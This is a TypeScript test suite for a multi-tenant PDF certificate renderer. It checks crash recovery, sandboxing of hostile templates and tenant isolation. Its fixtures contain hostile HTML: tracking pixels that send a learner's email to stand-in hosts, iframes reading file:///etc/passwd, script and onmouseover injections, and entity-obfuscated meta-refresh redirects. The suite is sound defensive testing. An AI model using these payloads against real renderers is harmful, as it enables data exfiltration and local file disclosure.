import { execFileSync } from 'node:child_process';
import { TemplateRenderError } from '../../src/rendering/pdf-renderer';
import { certificateHtml } from '../../src/rendering/certificate-html';
import { certificateVariables, sampleFacts } from '../../src/rendering/render-context';
import { generationOutcome, pdfText } from '../support/certificates';
import { Scenario } from '../support/scenario';
import { TestApp, token } from '../support/test-app';
import { testRenderer } from '../support/test-renderer';

describe('The renderer', () => {
  it('starts a new browser when its browser dies', async () => {
    const renderer = testRenderer(2);
    const page = { size: 'A4', orientation: 'portrait' } as const;
    try {
      expect(pdfText(await renderer.render('<p>before</p>', page))).toContain('before');
      // Kill this test process's own Chromium (its child), as a crash would.
      execFileSync('pkill', ['-KILL', '-P', String(process.pid), '-f', 'chromium']);
      const attempts: PromiseSettledResult<Buffer>[] = [];
      for (let i = 0; i < 3 && !attempts.some((a) => a.status === 'fulfilled'); i++)
        attempts.push((await Promise.allSettled([renderer.render('<p>after</p>', page)]))[0]);
      const rendered = attempts.find((a) => a.status === 'fulfilled');
      expect(rendered && pdfText(rendered.value)).toContain('after');
    } finally {
      await renderer.close();
    }
  }, 60_000);
});

describe('A hostile template', () => {
  const hostile = {
    html: `<h1 id="name">{{learner.name}}</h1>
<p id="status">SCRIPT DID NOT RUN</p>
<script>document.getElementById('status').textContent = 'SCRIPT RAN';</script>
<img src="https://tracker.example/pixel.png?who={{learner.email}}">
<link rel="stylesheet" href="https://evil.example/style.css">
<iframe src="file:///etc/passwd" width="800" height="300"></iframe>
<img src="file:///etc/passwd">
<object data="file:///etc/passwd"></object>
<p style="background: url('http://127.0.0.1:9/beacon')">{{{learner.name}}}</p>`,
    css: "@import url('https://evil.example/font.css'); body { font-family: serif; }",
    page: { size: 'A4', orientation: 'portrait' } as const,
  };

  it('renders without running a script, without any request leaving the page, without file contents', async () => {
    const renderer = testRenderer(1);
    try {
      const facts = {
        ...sampleFacts(new Date()),
        learner: { name: '<b onmouseover=alert(1)>Eve</b> & co', email: 'eve@example.com' },
      };
      const pdf = await renderer.render(
        certificateHtml(hostile, certificateVariables(facts, 'en')),
        hostile.page,
      );
      const text = pdfText(pdf);
      expect(text).toContain('SCRIPT DID NOT RUN');
      expect(text).not.toContain('SCRIPT RAN');
      expect(text).not.toMatch(/root:.*:0:0:/);
      // Learner data is escaped even in a triple-stash: the markup shows as text.
      expect(text).toContain('<b onmouseover=alert(1)>Eve</b> & co');
      expect(renderer.attemptedRequests.filter((url) => !url.startsWith('data:'))).toEqual([]);
    } finally {
      await renderer.close();
    }
  }, 60_000);

  it('that navigates away a moment later (a meta refresh) leaves the next render on its page whole', async () => {
    // Given: one render at a time, so the next render follows the hostile one (on its page, were
    // the page kept)
    const renderer = testRenderer(1);
    const page = { size: 'A4', orientation: 'portrait' } as const;
    try {
      const outcomes: string[] = [];
      for (const target of ['https://evil.example/', 'about:blank', 'https://evil.example/']) {
        // When: the hostile template renders (or is refused), its refresh fires while this
        // process is busy (the renderer sees the navigation only when its event loop turns, as
        // in a loaded service), and then another document renders
        const hostile = `<meta http-equiv="refresh" content="1;url=${target}"><p>HOSTILE</p>`;
        await renderer.render(hostile, page).catch(() => undefined);
        const busyUntil = Date.now() + 2_000;
        while (Date.now() < busyUntil);
        const text = await renderer
          .render('<p>INNOCENT</p>', page)
          .then(pdfText, (error: Error) => `failed: ${error.message.split('\n')[0]}`);
        outcomes.push(
          text.includes('INNOCENT') ? 'whole' : `after a refresh to ${target}: ${text}`,
        );
      }

      // Then: the next document rendered, whole
      expect(outcomes).toEqual(['whole', 'whole', 'whole']);
    } finally {
      await renderer.close();
    }
  }, 120_000);

  it('that hides a later refresh in a subframe, spelled without the word, leaves the next render on its page whole', async () => {
    // Given: one render at a time, and a document the renderer does not reset after (nothing in
    // its markup spells "refresh" or an entity in an http-equiv): its subframe's document does
    // declare a refresh, for a moment later
    const renderer = testRenderer(1);
    const page = { size: 'A4', orientation: 'portrait' } as const;
    const subframe = `&lt;meta http&#45;equiv=r&#101;fresh content='1;url=https://evil.example/'&gt;`;
    try {
      // When: it renders, its subframe's refresh comes due while this process is busy, and then
      // another document renders on the same page
      const first = await renderer.render(
        `<iframe srcdoc="${subframe}"></iframe><p>HOSTILE</p>`,
        page,
      );
      expect(pdfText(first)).toContain('HOSTILE');
      const busyUntil = Date.now() + 2_000;
      while (Date.now() < busyUntil);
      const next = await renderer.render('<p>INNOCENT</p>', page);

      // Then: the subframe's navigation (it fires while the page waits in the pool, its
      // document still in it) was blocked and not blamed on the next document, which rendered
      // whole, and setContent took the subframe away with the old document's nodes
      expect(pdfText(next)).toContain('INNOCENT');
      expect(pdfText(next)).not.toContain('HOSTILE');
      expect(new Set(renderer.attemptedRequests)).toEqual(new Set(['https://evil.example/']));
    } finally {
      await renderer.close();
    }
  }, 60_000);

  it('that navigates away while it renders is refused, its own document named', async () => {
    const renderer = testRenderer(1);
    const page = { size: 'A4', orientation: 'portrait' } as const;
    try {
      // Given/When: a document whose refresh fires at once, as it loads
      const rendering = renderer.render(
        '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>HOSTILE</p>',
        page,
      );

      // Then: refused as the template's doing; the next render on the page is whole
      await expect(rendering).rejects.toThrow(TemplateRenderError);
      await expect(rendering).rejects.toThrow(/navigates away .*evil\.example/);
      expect(pdfText(await renderer.render('<p>INNOCENT</p>', page))).toContain('INNOCENT');
    } finally {
      await renderer.close();
    }
  }, 60_000);

  it('that declares a refresh for later is refused every time, however the refresh is spelled', async () => {
    const renderer = testRenderer(1);
    const page = { size: 'A4', orientation: 'portrait' } as const;
    try {
      // Given: refreshes that would fire long after the print, one spelled with an entity
      const declared = [
        '<META HTTP-EQUIV="Refresh" CONTENT="60; URL=\'https://evil.example/later\'"><p>HOSTILE</p>',
        '<meta http-equiv="&#114;efresh" content="60;url=https://evil.example/spelled"><p>HOSTILE</p>',
        '<meta http-equiv="refresh" content="60"><p>HOSTILE</p>',
      ];

      // When: each renders
      const outcomes = [];
      for (const html of declared)
        outcomes.push(await renderer.render(html, page).then(pdfText, (error: Error) => error));

      // Then: each is refused as the template's doing, naming where it would go
      expect(outcomes.map((outcome) => outcome instanceof TemplateRenderError)).toEqual([
        true,
        true,
        true,
      ]);
      expect(outcomes.map((outcome) => String(outcome))).toEqual([
        expect.stringMatching(/navigates away .*evil\.example\/later/),
        expect.stringMatching(/navigates away .*evil\.example\/spelled/),
        expect.stringMatching(/navigates away .*the same page again/),
      ]);
    } finally {
      await renderer.close();
    }
  }, 60_000);

  it("is stopped by the renderer too, should the document's own policy be missing", async () => {
    const renderer = testRenderer(1);
    try {
      const bare =
        '<img src="https://tracker.example/pixel.png"><iframe src="file:///etc/passwd"></iframe><p>bare</p>';
      const text = pdfText(await renderer.render(bare, hostile.page));
      expect(text).toContain('bare');
      expect(text).not.toMatch(/root:.*:0:0:/);
      expect(renderer.attemptedRequests).toContain('https://tracker.example/pixel.png');
    } finally {
      await renderer.close();
    }
  }, 60_000);
});

describe("One tenant's navigating template and another tenant's previews", () => {
  let app: TestApp;
  /** Acme's own template, plain: what breaks a page shows as well on it as on a classic one. */
  let acmeTemplate: string;
  beforeAll(async () => {
    app = await TestApp.start({ RENDER_POOL_SIZE: '1' });
    for (const tenant of ['acme', 'evil']) await (await Scenario.of(app, tenant)).enableFeature();
    acmeTemplate = await (await Scenario.of(app, 'acme')).createAuthorTemplate('Plain');
  });
  afterAll(() => app.close());

  it("records a learner's certificate from such a template as failed at once, without the retries", async () => {
    // Given: tenant evil assigns its refreshing template; a learner completes the training. The
    // service would retry a render that failed for another cause 20 times, minutes apart.
    const retrying = await TestApp.start({ GENERATION_ATTEMPTS: '20' });
    try {
      const given = await Scenario.of(retrying, 'evil');
      await given.enableFeature();
      const author = await token('evil', 'author');
      const created = await given.ok(
        retrying.request('POST', '/api/v1/certificate-templates', {
          token: author,
          body: {
            kind: 'author',
            title: 'Refresh',
            language: 'en',
            html: '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>{{learner.name}}</p>',
          },
        }),
      );
      await given.createTraining('refresh');
      await given.assign('refresh', created.body.templateId as string, 1);
      await given.enrol('refresh', 'eve');
      await given.complete('refresh', 'eve');

      // When: the learner asks for the certificate
      const requested = await given.generate('refresh', 'eve');

      // Then: the outcome is a failure naming the navigation, recorded after one attempt
      const outcome = await generationOutcome(retrying, requested.body.certificateId as string);
      expect(outcome.type).toBe('CertificateGenerationFailed');
      expect(JSON.stringify(outcome.data)).toMatch(/navigates away/);
    } finally {
      await retrying.close();
    }
  }, 120_000);

  it('never answers 500: the hostile preview is refused with a problem, the others render', async () => {
    // Given: an author of tenant evil whose template refreshes the page elsewhere at once
    const evilAuthor = await token('evil', 'author');
    const created = await app.request('POST', '/api/v1/certificate-templates', {
      token: evilAuthor,
      body: {
        kind: 'author',
        title: 'Refresh',
        language: 'en',
        html: '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>{{learner.name}}</p>',
      },
    });
    expect(created.status).toBe(201);
    const hostileUrl = `/api/v1/certificate-templates/${created.body.templateId}/versions/1/preview`;
    const acmeAdmin = await token('acme', 'admin');

    // When: the evil preview and acme's previews take turns on the one pooled page (the page
    // broke 3 times in 15 before each render had a fresh context: a broken page shows at once)
    const ROUNDS = 6;
    const answers: { tenant: string; status: number; type: unknown; code?: unknown }[] = [];
    for (let i = 0; i < ROUNDS; i++) {
      const hostile = await app.request('GET', hostileUrl, { token: evilAuthor });
      answers.push({
        tenant: 'evil',
        status: hostile.status,
        type: String(hostile.headers['content-type']).split(';')[0],
        code: hostile.body?.code,
      });
      const innocent = await app.app.inject({
        method: 'GET',
        url: `/api/v1/certificate-templates/${acmeTemplate}/versions/1/preview`,
        headers: { authorization: `Bearer ${acmeAdmin}` },
      });
      answers.push({
        tenant: 'acme',
        status: innocent.statusCode,
        type: String(innocent.headers['content-type']).split(';')[0],
      });
    }

    // Then: acme's previews are all PDFs; evil's are PDFs or a problem naming the template
    expect(answers.filter((a) => a.tenant === 'acme')).toEqual(
      Array.from({ length: ROUNDS }, () => ({
        tenant: 'acme',
        status: 200,
        type: 'application/pdf',
      })),
    );
    for (const answer of answers.filter((a) => a.tenant === 'evil'))
      expect([
        { status: 200, type: 'application/pdf', code: undefined },
        { status: 422, type: 'application/problem+json', code: 'template-not-renderable' },
      ]).toContainEqual({ status: answer.status, type: answer.type, code: answer.code });
  }, 180_000);
});
